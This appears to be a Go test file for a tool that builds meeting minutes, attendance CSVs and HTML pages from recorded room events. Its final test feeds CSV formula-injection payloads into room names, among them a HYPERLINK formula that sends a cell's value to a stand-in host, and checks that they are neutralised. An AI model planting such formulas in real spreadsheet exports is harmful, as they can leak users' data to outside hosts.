package minutes

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/samvad/samvad/recording"
)

// A folder with a manifest but no events at all (the recorder died before
// its first line): every room absent, every file still written.
func TestBuildWithoutEvents(t *testing.T) {
	dir := fixture(t, false)
	if err := os.Remove(filepath.Join(dir, "events.jsonl")); err != nil {
		t.Fatal(err)
	}
	res := build(t, dir)
	if len(res.Skipped) == 0 {
		t.Error("a missing events.jsonl is not reported")
	}
	csv := readFile(t, filepath.Join(dir, AttendanceFile))
	if n := strings.Count(csv, ",absent,"); n != 9 {
		t.Errorf("%d absent rows, want 9:\n%s", n, csv)
	}
	md := readFile(t, filepath.Join(dir, MinutesFile))
	if !strings.Contains(md, "0 of 9 rooms attended; 9 absent.") {
		t.Errorf("minutes.md:\n%s", md)
	}
	if page := readFile(t, filepath.Join(dir, PageFile)); !strings.Contains(page, "No room spoke.") {
		t.Error("minutes.html does not say that no room spoke")
	}
}

// A room the meeting file does not know (the bot took its meeting from a
// server that has more rooms) is in the page and the draft, flagged, but
// not in attendance.csv, whose rows are the configured rooms.
func TestUnconfiguredRoom(t *testing.T) {
	s := Summarize(testMeeting(), at("13:58:00"), at("15:00:00"), []recording.Event{
		ev("14:00:00", "joined", "guest-1", "s1"),
		ev("14:01:00", "speaking_started", "guest-1", "s1"), ev("14:02:00", "speaking_stopped", "guest-1", "s1"),
	})
	if csv := string(attendanceCSV(s)); strings.Contains(csv, "guest-1") {
		t.Errorf("attendance.csv has an unconfigured room:\n%s", csv)
	}
	if md := string(minutesMD(s, files{})); !strings.Contains(md, "## 1. guest-1") || !strings.Contains(md, "14:01:00 for 1m00s") {
		t.Errorf("minutes.md lacks the unconfigured room's section:\n%s", md)
	}
	page, err := minutesHTML(s, files{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page), "guest-1</span> <em>(not in the meeting file)</em>") {
		t.Error("minutes.html does not flag the unconfigured room")
	}
	// A guest that gave a name (a LiveKit participant's) is shown by it.
	named := ev("14:00:00", "joined", "guest-1", "s1")
	named.Name = "Block committee, Jama"
	s = Summarize(testMeeting(), at("13:58:00"), at("15:00:00"), []recording.Event{named})
	if page, _ := minutesHTML(s, files{}); !strings.Contains(string(page), "Block committee, Jama</span> <em>(not in the meeting file)</em>") {
		t.Error("minutes.html does not show the guest by the name it gave")
	}
}

func TestMarkdownEscapes(t *testing.T) {
	m := testMeeting()
	m.Title = "*Samvad* [draft] | #1"
	m.Rooms[0].Name = "A_b <x>"
	s := Summarize(m, at("13:58:00"), at("15:00:00"), nil)
	md := string(minutesMD(s, files{}))
	for _, want := range []string{`# \*Samvad\* \[draft\] \| \#1`, `| A\_b \<x\> |`} {
		if !strings.Contains(md, want) {
			t.Errorf("minutes.md lacks %q:\n%s", want, md)
		}
	}
}

func TestTicks(t *testing.T) {
	loc := time.FixedZone("", 5*3600+1800)
	start := time.Date(2023, 11, 21, 13, 58, 17, 0, loc)
	var got []string
	for _, tk := range ticks(start, start.Add(3*time.Hour), loc) {
		got = append(got, tk.In(loc).Format("15:04"))
	}
	if want := "14:00 14:15 14:30 14:45 15:00 15:15 15:30 15:45 16:00 16:15 16:30 16:45"; strings.Join(got, " ") != want {
		t.Errorf("ticks %v, want %s", got, want)
	}
	if n := len(ticks(start, start.Add(90*time.Second), loc)); n != 1 {
		t.Errorf("%d ticks in 90 s from 13:58:17, want 1 (13:59)", n)
	}
}

func TestClockFormats(t *testing.T) {
	for d, want := range map[time.Duration]string{
		0: "0s", 400 * time.Millisecond: "<1s", 1500 * time.Millisecond: "2s", 59 * time.Second: "59s",
		61 * time.Second: "1m01s", time.Hour + 2*time.Minute + 7*time.Second: "1h02m07s",
	} {
		if got := human(d); got != want {
			t.Errorf("human(%v) = %q, want %q", d, got, want)
		}
	}
	start := at("13:58:00.500")
	if got := seek(at("14:02:07.200"), start); got != 246 {
		t.Errorf("seek = %d, want 246 (rounded down)", got)
	}
	if got := sheetTime(time.Time{}, ist); got != "" {
		t.Errorf("sheetTime(zero) = %q", got)
	}
	if got := sheetTime(at("14:02:07").UTC(), ist); got != "2023-11-21 14:02:07" {
		t.Errorf("sheetTime in the meeting's zone = %q", got)
	}
}

// TestAttendanceFormulas: names from the meeting file that a spreadsheet
// would run as formulas are written as text.
func TestAttendanceFormulas(t *testing.T) {
	m := testMeeting()
	m.Rooms = append(m.Rooms, recording.Room{ID: "c", Kind: "district"}, recording.Room{ID: "d", Kind: "district"})
	m.Rooms[0].Name = `=HYPERLINK("http://x.example/?"&A1,"click")`
	m.Rooms[0].NameHi = "+1"
	m.Rooms[1].Name = "@SUM(A1)"
	m.Rooms[1].Location = "-2+3"
	m.Rooms[2].Name = "\t=1+1"
	m.Rooms[3].Name = "Dumka - Jama block" // a dash inside is fine
	csv := string(attendanceCSV(Summarize(m, at("13:58:00"), at("15:00:00"), nil)))
	for _, want := range []string{`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, ",'+1,", ",'@SUM(A1),", ",'-2+3,", "'\t=1+1", ",Dumka - Jama block,"} {
		if !strings.Contains(csv, want) {
			t.Errorf("attendance.csv lacks %q:\n%s", want, csv)
		}
	}
}
